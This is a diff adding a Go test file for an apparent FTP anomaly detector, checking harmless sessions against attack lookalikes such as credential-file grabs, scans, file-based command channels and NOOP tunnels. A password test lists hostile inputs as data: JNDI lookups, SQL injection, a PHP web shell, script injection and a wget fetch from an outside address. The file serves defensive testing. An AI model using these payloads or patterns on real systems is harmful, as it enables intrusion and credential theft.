@@ -1,0 +1,178 @@
+// Harmless sessions, each beside the attack that it looks like.
+
+package baseline
+
+import (
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"ftplab/lab/internal/forge"
+)
+
+// lookalikes have the verdict that each gets. One with no want is an attack, which is not normal by
+// the given rule.
+var lookalikes = []struct {
+	name, rule string
+	want       Verdict
+	play       func(*forge.Capture)
+}{
+	{"a copy of the settings of a web site", "no-sensitive-names", IsUnusual, session1("> RETR wp-config.php\n< 150 here\n< 226 done\n> RETR .htpasswd\n< 150 here\n< 226 done\n> RETR .env\n< 150 here\n< 226 done\n> RETR configuration.php\n< 150 here\n< 226 done\n> RETR .my.cnf\n< 150 here\n< 226 done")},
+	{"certificates that are handed out", "no-sensitive-names", IsUnusual, session1(numberedLines(8, "> RETR host%d.pfx\n< 150 here\n< 226 done\n"))},
+	{"a copy whose files have moved", "no-sensitive-names", IsUnusual, session1(numberedLines(8, "> RETR safe%d.kdbx\n< 550 no\n"))},
+	{"a search for passwords", "no-sensitive-names", "", session1("> RETR wp-config.php\n< 550 no\n> RETR .htpasswd\n< 550 no\n> RETR .env\n< 550 no\n> RETR configuration.php\n< 150 here\n< 226 done\n> RETR .my.cnf\n< 550 no\n> RETR .git-credentials\n< 550 no")},
+
+	{"an inventory of printers", "no-scans", IsUnusual, func(f *forge.Capture) { anonymously(f, "anonymous", 20, func(*forge.End) {}) }},
+	{"a search of a network for anonymous servers", "no-scans", "", func(f *forge.Capture) {
+		for i := range 12 {
+			refuse(f, aClient, fmt.Sprintf("192.0.2.%d:21", 100+i))
+		}
+		anonymously(f, "anonymous", 20, func(*forge.End) {})
+	}},
+
+	{"a mirror that does not have all digests", "names-are-words", IsUnusual, session1(digests(25, "> SIZE dists/stable/by-hash/SHA256/%s\n< 550 no\n"))},
+	{"folders for devices, by the addresses of their network cards", "names-are-words", IsUnusual, session1(numberedLines(25, "> MKD 0050c2ab%02x7f\n< 257 ok\n"))},
+	{"a cache at an unusual port", "names-are-words", IsUnusual, func(f *forge.Capture) {
+		dial(f, aClient, aServer+":4444").Say(hello).Say(digests(25, "> SIZE %s\n< 550 no\n")).Say(bye).Peer.Close()
+	}},
+	{"a text in the names of folders", "names-are-words", "", session1(numberedHex(25, "> CWD %s\n< 550 no\n"))},
+
+	{"a queue of jobs", "files-are-fetched-once", IsUnusual, polled("run.txt", "simulate --seed 7\n", "done\n")},
+	{"a queue of jobs at an unusual port", "files-are-fetched-once", IsUnusual, func(f *forge.Capture) {
+		dial(f, aClient, aServer+":4444").Say(hello).Say(strings.Repeat("> RETR jobs.txt\n< 150 here\n< 226 done\n", 12)).Say(bye).Peer.Close()
+	}},
+	{"a shell by way of a file", "files-are-fetched-once", "", polled("run.txt", "whoami\r\n", "pc7\\ada\r\n")},
+	{"the output of a shell", "files-are-fetched-once", "", polled("news.txt", "aWQK", "uid=0(root) gid=0(root) groups=0(root)\n")},
+	{"commands by the name of the file", "files-are-fetched-once", "", polled("cmd.txt", "aWQK", "dWlk")},
+
+	{"a crawler whose folders are gone, and a refused upload", "no-search-for-room", IsUnusual, anonymous(numberedLines(5, "> CWD /mirror%d\n< 550 no\n") + "> STOR stamp\n< 553 no")},
+	{"a tree that may not be stored", "no-search-for-room", IsNormal, anonymous(numberedLines(6, "> MKD /site%[1]d\n< 550 no\n> STOR /site%[1]d/a.html\n< 553 no\n"))},
+	{"a search for a folder that can be written", "no-search-for-room", "", anonymous(numberedLines(5, "> CWD /d%[1]d\n< 250 ok\n> MKD 040103120000\n< 550 no\n"))},
+
+	{"a NOOP with the time", "control-carries-dialogue", IsNormal, paused(30*time.Second, numberedLines(40, "> NOOP 2026-11-29 13:%02d:07 +0000\n< 200 ok\n"))},
+	{"a NOOP with another text each time", "control-carries-dialogue", IsUnusual, paused(30*time.Second, digests(25, "> NOOP %s\n< 200 ok\n"))},
+	{"a tunnel of NOOPs", "control-carries-dialogue", "", paused(100*time.Millisecond, digests(25, "> NOOP %s\n< 200 ok\n"))},
+
+	{"a client behind several addresses of a data centre", "data-with-the-partner", IsUnusual, fetchedFrom("10.0.0.5", "10.0.0.6")},
+	{"a client with two providers", "data-with-the-partner", IsUnusual, fetchedFrom(aClient, "203.0.113.66")},
+	{"a client in a tunnel, with its data beside it", "data-with-the-partner", IsUnusual, fetchedFrom("10.1.1.5", "203.0.113.66")},
+	{"a stranger that is faster than the client", "data-with-the-partner", "", func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
+		download(f, "203.0.113.66", aServer+":25600", answerer, 100)
+		refuse(f, aClient, aServer+":25600")
+		t.Say("< 226 done").Say(bye).Peer.Close()
+	}},
+
+	{"a PORT with a comma too many", "announcement-well-formed", IsUnusual, session1("> PORT 198,51,100,100,12,100,\n< 200 ok\n> LIST\n< 150 here\n< 226 done")},
+	{"a PORT with twelve numbers", "announcement-well-formed", "", session1("> PORT 198,51,100,100,31,64,7,8,9,10,11,12\n< 200 ok")},
+
+	{"AUTH offered, and no certificate", "credentials-in-tls", IsUnusual, refusedTLS("ada", "431 cannot begin TLS")},
+	{"AUTH offered and refused, without a password", "credentials-in-tls", IsNormal, refusedTLS("anonymous", "502 no")},
+	{"AUTH offered and not implemented", "credentials-in-tls", IsUnusual, refusedTLS("ada", "502 no")},
+
+	{"a time that was set", "reply-fits-command", IsNormal, session1("> MFMT 20150215120000 a\n< 253 Date/time changed okay")},
+	{"a time that was set, and a listing in front of it", "reply-fits-command", IsUnusual, session1("> MFMT 20150215120000 a\n< 150 here\n< 213 ok")},
+}
+
+// digests fills the digests of numbers into a line.
+func digests(n int, line string) string {
+	var b strings.Builder
+	for i := range n {
+		sum := sha256.Sum256([]byte{byte(i)})
+		fmt.Fprintf(&b, line, hex.EncodeToString(sum[:]))
+	}
+	return b.String()
+}
+
+// numberedHex fills numbered texts into a line, as hexadecimal digits.
+func numberedHex(n int, line string) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, line, hex.EncodeToString(fmt.Appendf(nil, "the %d. part", i)))
+	}
+	return b.String()
+}
+
+// polled is a client that fetches a file twelve times, and stores an answer each time.
+func polled(name, order, answer string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		for i := range 12 {
+			move(t, 40000+2*i, "RETR "+name, order)
+			move(t, 40001+2*i, fmt.Sprintf("STOR answer%d.txt", i), answer)
+		}
+		t.Say(bye).Peer.Close()
+	}
+}
+
+// paused is a session of lines with a pause in front of each command.
+func paused(pause time.Duration, lines string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		for _, exchange := range strings.SplitAfter(lines, "ok\n") {
+			f.Pass(pause)
+			if exchange != "" {
+				t.Say(exchange)
+			}
+		}
+		t.Say(bye).Peer.Close()
+	}
+}
+
+// fetchedFrom is a session of one address with a download by another one.
+func fetchedFrom(client, other string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := dial(f, client, aServer+":21").Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
+		download(f, other, aServer+":25600", answerer, 55)
+		t.Say("< 226 done").Say(bye).Peer.Close()
+	}
+}
+
+// refusedTLS is a session in clear with a server that offers TLS and then refuses it.
+func refusedTLS(user, reply string) func(*forge.Capture) {
+	return dialogue("< 220 ready\n> FEAT\n< 211-Features:\n+  AUTH TLS\n+ 211 End\n> AUTH TLS\n< " + reply + "\n> USER " + user + "\n< 331 and?\n> PASS x\n< 230 in")
+}
+
+func TestLookalikes(t *testing.T) {
+	for _, test := range lookalikes {
+		t.Run(test.name, func(t *testing.T) {
+			got := forged(t, test.play)
+			switch violations := count(got, test.rule, Violation); {
+			case test.want == "":
+				if violations == 0 {
+					t.Errorf("got %v\nwant %s, for %s", got, NotNormal, test.rule)
+				}
+			case got.Verdict != test.want || test.want == IsUnusual && count(got, test.rule, Odd) == 0:
+				t.Errorf("got %v\nwant %s, for %s", got, test.want, test.rule)
+			}
+		})
+	}
+}
+
+// TestPasswords logs in with passwords that look like exploits, and with exploits that look like no
+// password.
+func TestPasswords(t *testing.T) {
+	token := base64.RawURLEncoding.EncodeToString([]byte(strings.Repeat(`{"sub":"ada","iat":1764421200}`, 30)))
+	for _, password := range []string{
+		"x;ls", "${2*2}a", "{{7*7}}!", "`id`", "a|id", "$(reboot)", "' or ''", "x'--", "{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}", "~{", "%x%s0a?", "a%d%s9%f", "con/con", "<?=x", "********",
+		"${lower:x}", "eyJhbGciOiJIUzI1NiJ9." + token, "%0d%0aQUIT", "pass;wget me",
+	} {
+		got := forged(t, dialogue("< 220 ready\n> USER ada\n< 331 and?\n> PASS "+password+"\n< 230 in\n> QUIT\n< 221 bye"))
+		if got.Verdict != IsNormal {
+			t.Errorf("PASS %s: got %v\nwant %s", password, got, IsNormal)
+		}
+	}
+	for _, password := range []string{
+		"%x%x%n", "%s%s%s%s", strings.Repeat("Ab", 60), strings.Repeat("abcdefghijklmnopqrstuvwxyz0123456789", 100), strings.Repeat("\x90", 16) + "\xeb\x1f", "\x01\x02\x03\x04\x05/bin/sh",
+		"${jndi:ldap://203.0.113.66/a}", "' or '1'='1", "' OR 1=1 --", "' union select 1,2 --", "<script>alert(1)</script>", "<?php system($_GET['c']); ?>", "x;wget http://203.0.113.66/m.sh", "Aa0Aa1Aa2Aa3Aa4",
+	} {
+		got := forged(t, dialogue("< 220 ready\n> USER ada\n< 331 and?\n> PASS "+password+"\n< 530 no\n> QUIT\n< 221 bye"))
+		if got.Verdict != NotNormal {
+			t.Errorf("PASS %s: got %v\nwant %s", password, got, NotNormal)
+		}
+	}
+}
